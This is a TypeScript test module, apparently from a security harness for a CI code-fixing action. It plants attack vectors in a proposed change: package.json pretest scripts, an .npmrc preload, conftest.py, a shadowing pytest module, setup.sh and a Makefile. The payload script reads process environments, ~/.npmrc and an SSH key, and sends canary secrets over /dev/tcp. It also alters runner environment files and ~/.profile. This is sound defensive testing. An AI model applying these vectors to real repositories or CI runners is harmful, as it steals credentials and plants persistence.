import type { Files } from '../../stand-ins/laptop.ts';
import { bug, project } from '../../stand-ins/sums.ts';
import type { Attack, Group } from '../attack.ts';
import { plant } from '../machine.ts';
import { has } from '../room-attacks.ts';

/** A file of the change that runs when its tests run, and what it has to hold to run a command. */
interface Vector extends Attack {
  files: (act: string) => Files;
}

let count = 0;
const vector = (rows: string, name: string, files: Vector['files'], more: Partial<Attack> = {}): Vector => {
  count += 1;
  return {
    id: `execution-${String(count).padStart(2, '0')}`,
    rows: rows.split(' '),
    name,
    layer: 'sandbox',
    files,
    ...more,
  };
};

const spawn = (act: string): string =>
  `require('node:child_process').execSync(${JSON.stringify(act)}, { stdio: 'inherit' });\n`;
/** Once, though every process of Node comes by. */
const spawnOnce = (act: string): string =>
  `if (!process.env.ACTED) { process.env.ACTED = 1; ${spawn(act)} }\n`;
const python = (act: string): string =>
  `import subprocess\nsubprocess.call(${JSON.stringify(act)}, shell=True)\n`;

const scripts = { test: 'node -e 0' };

const vectors: readonly Vector[] = [
  vector(
    'C4',
    'a script of package.json around the tests',
    (act) => ({
      'package.json': JSON.stringify({ scripts: { ...scripts, pretest: act } }),
    }),
    { strongest: true },
  ),
  vector('C4', 'a script that .npmrc has npm load', (act) => ({
    '.npmrc': 'node-options=--require=./load.cjs\n',
    'load.cjs': spawnOnce(act),
  })),
  vector('C4', 'a test', (act) => ({ 'test/evil.test.js': spawn(act) })),
  vector('C4', 'a configuration of the test runner', (act) => ({
    'runner.config.js': spawn(act),
    'test/with-config.test.js': "require('../runner.config.js');\n",
  })),
  vector('C4', 'conftest.py', (act) => ({ 'conftest.py': python(act) })),
  vector('C4', 'a module of Python that stands before the machine’s', (act) => ({
    'pytest.py': `${python(act)}try:\n    import conftest\nexcept ImportError:\n    pass\n`,
  })),
  vector('C4', 'what the setup command runs of the change', (act) => ({ 'setup.sh': `${act}\n` })),
  ...(has('make') ? [vector('C4', 'a Makefile', (act) => ({ Makefile: `check:\n\t@${act}\n` }))] : []),
];

/** All that tests run, whatever of it the change brings. */
const testCommand =
  'npm test; make -s check; PATH=/usr/bin:$PATH python3 -m pytest; node --test; echo "tried:" $(cat tried-*); false';

/**
 * What each does: it gathers secrets from the environments of processes and from the home directory, shows them,
 * sends them away, and writes to the runner's files and to a program of the home directory.
 */
const act = `id=$1
echo $id >> tried-$id
found=$(mktemp)
{
  env
  p=$PPID
  while [ "\${p:-0}" -gt 0 ]; do
    tr '\\0' '\\n' < /proc/$p/environ
    tr '\\0' ' ' < /proc/$p/cmdline | grep -q dist/index.js && break
    p=$(awk '/^PPid/{print $2}' /proc/$p/status)
  done
  cat HOME/.npmrc HOME/.ssh/id_ed25519 TEMP/a1b2c3.sh
} 2>/dev/null | grep -o 'CANARY[0-9a-f]*' | sort -u > $found
for word in $id $(cat $found); do (exec 3<>/dev/tcp/127.0.0.1/PORT && echo "$id: $word" >&3); done 2>/dev/null
for f in TEMP/_runner_file_commands/set_env_*; do case $f in *planted|*'*') ;; *) echo "$id=1" >> $f;; esac; done
echo "$id" >> HOME/.profile
cat $found
`;

/** One run, whose tests fail in the end so that their output is read. */
export const execution: Group = {
  name: 'a change that acts when its tests run',
  attacks: vectors,
  run: async (lab, chosen) => {
    const scene = await lab.scene();
    const machine = await plant(lab, scene);
    const tried = vectors.filter(({ id }) => chosen.has(id));
    const name = (id: string): string => id.replace('-', '_');
    scene.head = scene.push({
      ...project,
      ...bug,
      'package.json': JSON.stringify({ scripts }),
      'act.sh': act
        .replaceAll('HOME', machine.home)
        .replaceAll('TEMP', machine.temp)
        .replaceAll('PORT', String(machine.services.tcp)),
      ...Object.assign({}, ...tried.map(({ id, files }) => files(`bash act.sh ${name(id)}`))),
    });
    scene.model.add({ forever: { status: 400 }, times: Infinity });
    const result = await scene.run('fix', {
      ...machine.more,
      inputs: {
        'max-attempts': '1',
        'test-command': testCommand,
        'setup-command': '[ ! -e setup.sh ] || bash setup.sh',
      },
    });
    const shown = scene.model.requests[0]?.raw ?? '';
    const ran = /tried: ([\w ]+)/g;
    const done = new Set([...shown.matchAll(ran)].flatMap(([, names]) => names!.split(' ')));
    const heard = machine.heard();
    const spoilt = machine.changed();
    const won = new Map<string, string>();
    for (const { id } of tried) {
      if (!done.has(name(id)))
        throw new Error(`${id} was not tried: ${result.log.slice(-1000)} ${shown.slice(-3000)}`);
      const sent = heard.split('\n').filter((line) => line.startsWith(`${name(id)}:`));
      if (sent.length > 0)
        won.set(id, `it sent ${scene.canaries.in(sent.join('\n')).join(', ') || 'a word'} away`);
      else if (name(id) in result.env) won.set(id, 'it set a variable of later steps');
    }
    const leaked = scene.canaries.in(scene.everything(result));
    if (won.size === 0 && leaked.length > 0)
      won.set('the whole run', `${leaked.join(', ')} left the machine`);
    if (won.size === 0 && spoilt.length > 0) won.set('the whole run', `${spoilt.join(', ')} changed`);
    return won;
  },
};
